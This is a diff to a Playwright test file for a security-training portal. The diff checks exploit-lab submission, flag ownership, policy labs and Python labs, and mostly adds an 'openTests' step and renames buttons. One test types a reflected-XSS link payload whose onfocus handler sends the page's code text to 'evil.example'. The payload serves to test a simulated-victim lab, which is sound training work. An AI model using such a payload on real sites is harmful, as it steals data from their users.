@@ -1,5 +1,5 @@
 import { expect, type Page, test } from '@playwright/test';
-import { readFix, typeFix } from '../fixtures/learner.ts';
+import { openTests, readFix, typeFix } from '../fixtures/learner.ts';
 import { openPortal, type Portal, signIn } from '../fixtures/portal.ts';
 
 /** Kinds of lab other than "fix the code", submitted from the page and graded by the server. */
@@ -44,7 +44,7 @@ test('the attack of an exploit lab is submitted and replayed against a flag of t
 
   await test.step('submitted while the network fails once, it earns the learner’s own flag', async () => {
     await failOnce(page, 'api/challenge/lab/submit');
-    await page.getByRole('button', { name: 'Submit attack' }).first().click();
+    await page.getByRole('button', { name: 'Submit' }).first().click();
     await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
   });
   const flag = await readOwnFlag(page);
@@ -53,8 +53,9 @@ test('the attack of an exploit lab is submitted and replayed against a flag of t
     const context = await browser.newContext();
     const other = await context.newPage();
     await signIn(other, portal, 'member@globex.test', `/portal/challenges/${LAB}`);
+    await openTests(other);
     await other.getByRole('textbox', { name: 'Flag' }).fill(flag);
-    await other.getByRole('button', { name: 'Check' }).click();
+    await other.getByRole('button', { name: 'Submit flag' }).click();
     await expect(other.getByText(/This is not your flag\. 9 tries left/)).toBeVisible();
     await other.reload();
     await expect(other.getByText('Not solved yet').first()).toBeVisible();
@@ -63,6 +64,7 @@ test('the attack of an exploit lab is submitted and replayed against a flag of t
 
   await test.step('a reload shows it solved, with the same flag', async () => {
     await page.reload();
+    await openTests(page);
     expect(await readOwnFlag(page)).toBe(flag);
   });
 });
@@ -75,13 +77,14 @@ test('a victim follows a link in the simulated browser, and the server sees the 
     .fill(`/?q=%22%20autofocus%20onfocus=%22location='https://evil.example/?'%2Bcode.textContent`);
   await page.getByRole('button', { name: /^Send the link to Odile/ }).click();
   await expect(page.getByText('You have the practice flag.')).toBeVisible();
-  await page.getByRole('button', { name: 'Submit attack' }).first().click();
+  await page.getByRole('button', { name: 'Submit' }).first().click();
   await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
 });
 
 test('the files of a policy lab are graded in the page and on the server', async ({ page }) => {
   const LAB = 'l23-dockerfile-on-a-diet';
   await signIn(page, portal, 'manager@acme.test', `/portal/labs/${LAB}`);
+  await openTests(page);
   await expect(page.getByText('Gets through').first()).toBeVisible();
   await typeFix(page, page, readFix(LAB, 'solution'));
   await expect(page.getByText('Gets through')).toHaveCount(0);
@@ -94,6 +97,7 @@ test('a Python lab runs in the page’s worker and in the server’s jail', asyn
   test.slow();
   const LAB = 'l10-the-thumbnailers-shell';
   await signIn(page, portal, 'champion@acme.test', `/portal/labs/${LAB}`);
+  await openTests(page);
   await expect(page.getByText('Gets through').first()).toBeVisible(JUDGED);
   await typeFix(page, page, readFix(LAB, 'solution'));
   await expect(page.getByText('Gets through')).toHaveCount(0, JUDGED);
